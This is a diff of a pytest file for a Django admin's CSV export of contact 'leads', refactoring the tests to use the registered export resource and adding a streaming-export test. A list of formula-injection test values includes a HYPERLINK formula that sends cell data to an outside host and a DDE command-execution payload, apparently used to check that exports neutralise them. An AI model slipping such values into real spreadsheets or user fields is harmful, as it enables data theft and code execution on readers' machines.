@@ -8,19 +8,27 @@ from datetime import UTC, datetime
 
 import openpyxl
 import pytest
+from django.contrib import admin
 from django.contrib.auth.models import Permission
 from django.urls import reverse
 from import_export.formats.base_formats import CSV
 
+from conversations.export import stream_contacts_csv
 from conversations.models import Contact
 from conversations.resources import ContactResource
 from core.spreadsheets import UTF8_BOM
+from tests.admin_forms import change_form_data
 from tests.factories import ContactFactory, UserFactory
 
 CHANGELIST = reverse("admin:conversations_contact_changelist")
 EXPORT = reverse("admin:conversations_contact_export")
-FIELDS = [f"contactresource_{name}" for name in ContactResource._meta.fields]
-HEADERS = [
+#: The resource of the admin registered for leads: the leads' own, extended by the apps above.
+RESOURCE = admin.site.get_model_admin(Contact).resource_classes[0]
+#: The export form's names for the resource's fields.
+PREFIX = RESOURCE.__name__.lower()
+FIELDS = [f"{PREFIX}_{name}" for name in RESOURCE._meta.fields]
+#: The leads' own columns (`ContactResource`), then what need discovery adds.
+OWN_HEADERS = [
     "ID",
     "Name",
     "Username",
@@ -32,8 +40,8 @@ HEADERS = [
     "Last message",
     "Language",
     "Personal data consent",
-    "Interested in",
 ]
+HEADERS = [*OWN_HEADERS, "Interested in"]
 #: Names a Telegram user can pick that spreadsheets would run (no tab or CR: XML changes those).
 FORMULAS = ['==HYPERLINK("//e.tk/"&D3)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", " =1+1"]
 
@@ -94,7 +102,7 @@ def test_csv_export_has_the_resource_headers_and_rows(admin_client, leads):
 
 def test_streamed_csv_matches_import_export_output(admin_client, leads):
     ContactFactory(first_name="=HYPERLINK(1)", last_name='Quote "me", please', email="")
-    expected = CSV().export_data(ContactResource().export(Contact.objects.all()))
+    expected = CSV().export_data(RESOURCE().export(Contact.objects.all()))
 
     response = admin_client.post(EXPORT, export_form("0"))
 
@@ -173,8 +181,8 @@ def test_the_export_form_speaks_only_the_admin_language(admin_client, db, settin
 
     assert "Выбрать все" in page
     assert "Select all" not in page
-    assert '<label for="id_contactresource_id">ID</label>' in page
-    assert '<label for="id_contactresource_phone">Телефон</label>' in page
+    assert f'<label for="id_{PREFIX}_id">ID</label>' in page
+    assert f'<label for="id_{PREFIX}_phone">Телефон</label>' in page
 
 
 def test_csv_export_respects_the_changelist_filter(admin_client, leads):
@@ -184,7 +192,7 @@ def test_csv_export_respects_the_changelist_filter(admin_client, leads):
 
 
 def test_csv_export_keeps_only_ticked_columns(admin_client, leads):
-    fields = ["contactresource_username", "contactresource_phone"]
+    fields = [f"{PREFIX}_username", f"{PREFIX}_phone"]
 
     rows = csv_rows(admin_client.post(EXPORT, export_form("0", fields=fields)))
 
@@ -279,11 +287,9 @@ def test_staff_with_export_permission_export(clerk, leads):
 def test_export_from_the_change_form_checks_the_permission(clerk, leads, settings):
     settings.IMPORT_EXPORT_SKIP_ADMIN_ACTION_EXPORT_UI = True
     anna, _boris = leads
+    url = reverse("admin:conversations_contact_change", args=[anna.pk])
 
-    response = clerk.post(
-        reverse("admin:conversations_contact_change", args=[anna.pk]),
-        {"_export-item": "1", "status": anna.status, "language_code": "ru"},
-    )
+    response = clerk.post(url, {**change_form_data(clerk.get(url)), "_export-item": "1"})
 
     assert response.status_code == 403
 
@@ -294,3 +300,16 @@ def test_csv_leaves_in_chunks(admin_client, leads, monkeypatch):
     chunks = list(admin_client.post(EXPORT, export_form("0")).streaming_content)
 
     assert [chunk.count(b"\n") for chunk in chunks] == [2, 1, 0]
+
+
+def test_the_leads_own_resource_exports_their_own_columns_as_import_export_does(leads):
+    queryset = Contact.objects.all()
+
+    counted = []
+
+    chunks = stream_contacts_csv(queryset, resource=ContactResource(), on_complete=counted.append)
+
+    content = b"".join(chunks).decode()
+    assert content == UTF8_BOM + CSV().export_data(ContactResource().export(queryset))
+    assert next(csv.reader(io.StringIO(content.removeprefix(UTF8_BOM)))) == OWN_HEADERS
+    assert counted == [2]
